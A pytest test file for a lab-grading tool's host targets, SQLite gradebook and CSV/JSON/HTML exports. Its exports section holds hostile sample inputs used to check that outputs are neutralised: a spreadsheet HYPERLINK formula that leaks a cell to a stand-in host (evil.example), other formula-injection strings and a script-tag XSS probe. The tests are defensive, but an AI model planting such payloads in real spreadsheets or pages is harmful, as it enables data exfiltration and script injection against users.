"""virtlab grade, the parts that need no SSH: targets, gradebook, exports, usage errors.

The gradebook is a real SQLite file, the inventories are parsed by the real
``ansible-inventory``, the HTML is rendered by the real template.
"""

from __future__ import annotations

import csv
import io
import json
import sqlite3

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from checker.grade import exports
from checker.grade.gradebook import Gradebook, GradebookError, default_path
from checker.grade.targets import HostTarget, TargetError, from_inventory, from_specs
from conftest import run_virtlab

LAB = "01-hardware"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


# --- targets ----------------------------------------------------------------------------

def test_host_specs_name_the_learner_and_the_ssh_destination():
    t = from_specs(["ssh://alice@pc12:2222", "ssh://bob@10.0.0.5", "ssh://alice@pc12:2222"])
    assert [x.learner for x in t] == ["alice", "bob"]  # duplicate dropped
    assert (t[0].ssh_user, t[0].ssh_host, t[0].ssh_port) == ("alice", "pc12", 2222)
    assert t[1].libvirt_uri("qemu+ssh://{user}@{host}:{port}/system") == \
        "qemu+ssh://bob@10.0.0.5:22/system"


@pytest.mark.parametrize("spec, why", [
    ("local://", "ssh://user@host"),
    ("ssh://pc12", "no user"),
    ("ssh://alice:secret@pc12", "no password in a host spec"),
    ("ssh://alice@pc12:notaport", "the port must be a number in 1..65535"),
    ("ssh://alice@pc12/x?y=1", "path, '?' options"),
])
def test_bad_host_specs_are_refused_with_the_reason(spec, why):
    with pytest.raises(TargetError, match=why.replace("?", r"\?")):
        from_specs([spec])


def test_ipv6_hosts_are_bracketed_in_the_libvirt_uri():
    t = HostTarget("h", "ssh://a@[::1]:22", "a", ssh_user="a", ssh_host="::1", ssh_port=22)
    assert t.libvirt_uri("qemu+ssh://{user}@{host}:{port}/system") == "qemu+ssh://a@[::1]:22/system"


INI = """\
[classe]
pc01 ansible_host=127.0.0.1 ansible_port=2201 ansible_user=alice email=alice@example.org
pc02 ansible_host=127.0.0.2 ansible_user=etu virtlab_learner=bob
"""
YAML = """\
all:
  children:
    classe:
      hosts:
        pc01:
          ansible_host: 127.0.0.1
          ansible_port: 2201
          ansible_user: alice
          email: alice@example.org
        pc02:
          ansible_host: 127.0.0.2
          ansible_user: etu
          virtlab_learner: bob
"""


@pytest.mark.parametrize("name, text", [("classe.ini", INI), ("classe.yml", YAML)])
def test_an_inventory_gives_learners_emails_and_ansible_specs(tmp_path, name, text):
    inv = tmp_path / name
    inv.write_text(text)
    t = {x.host: x for x in from_inventory(str(inv))}
    assert set(t) == {"pc01", "pc02"}
    assert (t["pc01"].learner, t["pc01"].email) == ("alice", "alice@example.org")
    assert (t["pc02"].learner, t["pc02"].ssh_user) == ("bob", "etu")
    assert (t["pc01"].ssh_host, t["pc01"].ssh_port) == ("127.0.0.1", 2201)
    assert t["pc01"].spec == f"ansible://pc01?ansible_inventory={inv.resolve()}"


def test_an_inventory_host_without_learner_is_refused(tmp_path):
    inv = tmp_path / "x.ini"
    inv.write_text("[c]\npc01 ansible_host=127.0.0.1\n")
    with pytest.raises(TargetError, match="neither virtlab_learner nor ansible_user"):
        from_inventory(str(inv))


def test_a_missing_inventory_is_a_clear_error(tmp_path):
    with pytest.raises(TargetError, match="no such file"):
        from_inventory(str(tmp_path / "nope.ini"))


# --- gradebook --------------------------------------------------------------------------

def _report(user: str, statuses: dict[str, str], msg: str = "m") -> dict:
    pts = {"cpu-virt-flags": 3, "kvm-modules": 2, "dev-kvm": 2, "host-resources": 3}
    objs = [{"id": oid, "title": oid, "section": "8.1.1", "points": pts[oid],
             "earned": pts[oid] if st_ == "pass" else 0, "status": st_,
             "message": "ok" if st_ == "pass" else f"{oid}: {msg}", "hint": "",
             "evidence": {"user": user}} for oid, st_ in statuses.items()]
    return {"schema_version": 1, "lab": LAB, "title": "t", "host": "h", "libvirt_uri": "u",
            "user": user, "lang": "fr",
            "score": sum(o["earned"] for o in objs if o["status"] != "skip"),
            "max_score": sum(o["points"] for o in objs if o["status"] != "skip"),
            "passed": False, "started_at": "2024-01-01T00:00:00+00:00", "duration_s": 0.1,
            "checker_version": "0.1.0", "objectives": objs}


ALL_PASS = {"cpu-virt-flags": "pass", "kvm-modules": "pass", "dev-kvm": "pass",
            "host-resources": "pass"}


def _graded(user, statuses=ALL_PASS, msg="m"):
    return [{"lab": LAB, "status": "graded", "reason": "", "report": _report(user, statuses, msg)}]


def _failed(status, reason):
    return [{"lab": LAB, "status": status, "reason": reason, "report": None}]


def _class(n=4):
    return [HostTarget(host=f"ssh://u{i}@h{i}", spec=f"ssh://u{i}@h{i}", learner=f"u{i}",
                       email=f"u{i}@example.org", ssh_user=f"u{i}", ssh_host=f"h{i}")
            for i in range(n)]


def test_every_run_is_kept_with_its_time_version_and_evidence(tmp_path):
    gb = Gradebook(tmp_path / "gb.sqlite")
    roster = _class(2)
    run = gb.start_run([LAB], roster, lang="fr", options={"timeout": 5})
    gb.record(run, roster[0].host, _graded("u0"), 0.2)
    gb.record(run, roster[1].host, _failed("unreachable", "Connection refused"), 0.01)
    gb.finish_run(run, "complete")
    run2 = gb.start_run([LAB], roster, lang="fr")
    gb.finish_run(run2, "complete")
    gb.close()
    db = sqlite3.connect(tmp_path / "gb.sqlite")
    runs = db.execute("SELECT id, status, checker_version, started_at, finished_at FROM runs").fetchall()
    assert [r[0] for r in runs] == [run, run2] and all(r[1] == "complete" for r in runs)
    assert all(r[2] == "0.1.0" and r[3] and r[4] for r in runs)
    ev = db.execute("SELECT objective, status, evidence FROM objective_results").fetchall()
    assert len(ev) == 4 and json.loads(ev[0][2]) == {"user": "u0"}
    rep = json.loads(db.execute("SELECT report FROM results WHERE status='graded'").fetchone()[0])
    assert rep["user"] == "u0" and len(rep["objectives"]) == 4


def test_pending_hosts_of_an_interrupted_run_and_of_failed_connections(tmp_path):
    gb = Gradebook(tmp_path / "gb.sqlite")
    roster = _class(4)
    run = gb.start_run([LAB], roster, lang="fr")
    gb.record(run, roster[0].host, _graded("u0"))
    gb.record(run, roster[1].host, _failed("timeout", "banner exchange"))
    gb.finish_run(run, "interrupted")  # u2, u3 never reached
    missing = gb.pending(run, missing=True, failed_to_connect=False)
    failed = gb.pending(run, missing=False, failed_to_connect=True)
    assert [t.learner for t in missing] == ["u2", "u3"]
    assert [t.learner for t in failed] == ["u1"]
    # a resume continues the run; the class view merges both, latest outcome first
    run2 = gb.start_run([LAB], missing + failed, lang="fr", parent_id=run, kind="resume")
    for t in missing + failed:
        gb.record(run2, t.host, _graded(t.learner))
    view = gb.class_view(run2)
    assert [r.id for r in view.runs] == [run, run2]
    assert [row.target.learner for row in view.rows] == ["u0", "u1", "u2", "u3"]
    assert all(row.results[LAB].status == "graded" for row in view.rows)
    assert view.rows[0].results[LAB].run_id == run and view.rows[1].results[LAB].run_id == run2
    assert gb.pending(run2, missing=True, failed_to_connect=True) == []


def test_a_gradebook_from_a_newer_virtlab_is_refused(tmp_path):
    Gradebook(tmp_path / "gb.sqlite").close()
    db = sqlite3.connect(tmp_path / "gb.sqlite")
    with db:
        db.execute("UPDATE meta SET value='99' WHERE key='schema_version'")
    db.close()
    with pytest.raises(GradebookError, match="newer"):
        Gradebook(tmp_path / "gb.sqlite")


def test_the_default_gradebook_lives_under_xdg_data_home(monkeypatch, tmp_path):
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path))
    assert default_path() == tmp_path / "virtlab" / "gradebook.sqlite"


# --- exports ----------------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"clic")', "+1+1", "-2+3", "@SUM(A1:A2)",
           "\tTAB", "\rCR", "<script>alert('x')</script>", '"quoted", comma; semi\nnewline']


@given(st.text())
@settings(max_examples=300)
def test_no_csv_cell_can_start_a_formula(s):
    cell = exports.neutralise(s)
    assert not cell.startswith(FORMULA_START)
    assert "\n" not in cell and "\r" not in cell
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerow([cell, "x"])
    assert next(csv.reader(io.StringIO(buf.getvalue()))) == [cell, "x"]


def _hostile_view(tmp_path, lang="fr"):
    gb = Gradebook(tmp_path / "gb.sqlite")
    roster = [HostTarget(host=f"pc{i}", spec=f"ansible://pc{i}", learner=f"l{i}", email=e,
                         ssh_user=f"l{i}", ssh_host="127.0.0.1")
              for i, e in enumerate(HOSTILE)]
    run = gb.start_run([LAB], roster, lang=lang)
    for i, t in enumerate(roster):
        if i == 1:
            gb.record(run, t.host, _failed("unreachable", HOSTILE[6]))
        elif i == 2:
            continue  # never graded
        else:
            gb.record(run, t.host, _graded(t.learner, {**ALL_PASS, "dev-kvm": "fail"},
                                           msg=HOSTILE[i % len(HOSTILE)]))
    gb.finish_run(run, "complete")
    return gb.class_view(run)


def test_the_csv_reimports_with_the_documented_columns_and_no_formula(tmp_path):
    view = _hostile_view(tmp_path)
    text = exports.to_csv(view)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["username", "email", LAB, f"{LAB} feedback"]
    assert len(rows) == 1 + len(HOSTILE)
    for row in rows[1:]:
        assert len(row) == 4
        assert all(not c.startswith(FORMULA_START) for c in row), row
    byname = {r[0]: r for r in rows[1:]}
    assert byname["l0"][2] == "8" and "dev-kvm" in byname["l0"][3]  # 10 - dev-kvm's 2
    assert byname["l1"][2] == "" and "injoignable" in byname["l1"][3]
    assert byname["l2"][2] == "" and "pas encore évalué" in byname["l2"][3]
    assert byname["l0"][1] == "'" + HOSTILE[0]  # neutralised, still readable
    text.encode("utf-8")  # UTF-8 without surprises


def test_the_json_export_holds_every_report(tmp_path):
    view = _hostile_view(tmp_path, lang="en")
    doc = json.loads(exports.to_json(view))
    assert doc["labs"] == [LAB] and len(doc["learners"]) == len(HOSTILE)
    l0 = doc["learners"][0]["results"][LAB]
    assert l0["status"] == "graded" and l0["report"]["objectives"][2]["status"] == "fail"
    assert doc["learners"][2]["results"][LAB] is None


def test_the_html_report_escapes_everything_and_has_grid_chart_failures(tmp_path):
    view = _hostile_view(tmp_path)
    html = exports.to_html(view)
    assert "<script>alert" not in html and "&lt;script&gt;alert(" in html
    assert "Apprenant" in html and "Learner" in html  # French first, English too
    assert "<svg" in html and html.count("<svg") == 1  # the pass-rate chart, inline
    assert "Échecs les plus fréquents" in html and "Most common failures" in html
    assert "Hôtes non évalués" in html and "unreachable" in html
    # the grid: one row per learner, one cell per objective
    assert html.count('class="c fail"') == len(HOSTILE) - 2
    assert html.count('class="c none"') == 2 * 4


def test_pass_rates_leave_out_hosts_not_graded(tmp_path):
    view = _hostile_view(tmp_path)
    rates = {oid: (rate, n) for _, oid, rate, n in exports.pass_rates(view)}
    assert rates["dev-kvm"] == (0.0, len(HOSTILE) - 2)
    assert rates["host-resources"] == (1.0, len(HOSTILE) - 2)


# --- usage errors -----------------------------------------------------------------------

@pytest.mark.parametrize("args, message", [
    (["grade", "--hosts", "ssh://a@h"], "which lab"),
    (["grade", "01"], "which hosts"),
    (["grade", "01", "--hosts", "pc12"], "bad host spec"),
    (["grade", "99", "--hosts", "ssh://a@h"], "'99'"),
    (["grade", "01", "--hosts", "ssh://a@h", "--workers", "0"], "--workers"),
    (["grade", "01", "--hosts", "ssh://a@h", "--ssh-config", "/nonexistent/cfg"], "no such file"),
    (["grade", "01", "--hosts", "ssh://a@h", "--csv", "/nonexistent/dir/x.csv"], "does not exist"),
    (["grade", "01", "--hosts", "ssh://a@h", "--connect", "qemu+ssh://{who}/system"], "{user}"),
    (["grade", "--resume"], "nothing to resume"),
])
def test_bad_usage_says_what_and_exits_2(tmp_path, args, message):
    r = run_virtlab(*args, "--db", str(tmp_path / "gb.sqlite"))
    assert r.returncode == 2, r.stderr
    assert message in r.stderr
    assert "Traceback" not in r.stderr


def test_hosts_and_inventory_are_exclusive(tmp_path):
    r = run_virtlab("grade", "01", "--hosts", "ssh://a@h", "--inventory", "x.ini")
    assert r.returncode == 2 and "not allowed with" in r.stderr


def test_an_unreadable_gradebook_is_a_usage_error(tmp_path):
    bad = tmp_path / "gb.sqlite"
    bad.write_bytes(b"this is not sqlite" * 100)
    r = run_virtlab("grade", "01", "--hosts", "ssh://a@h", "--db", str(bad))
    assert r.returncode == 2 and "cannot open gradebook" in r.stderr
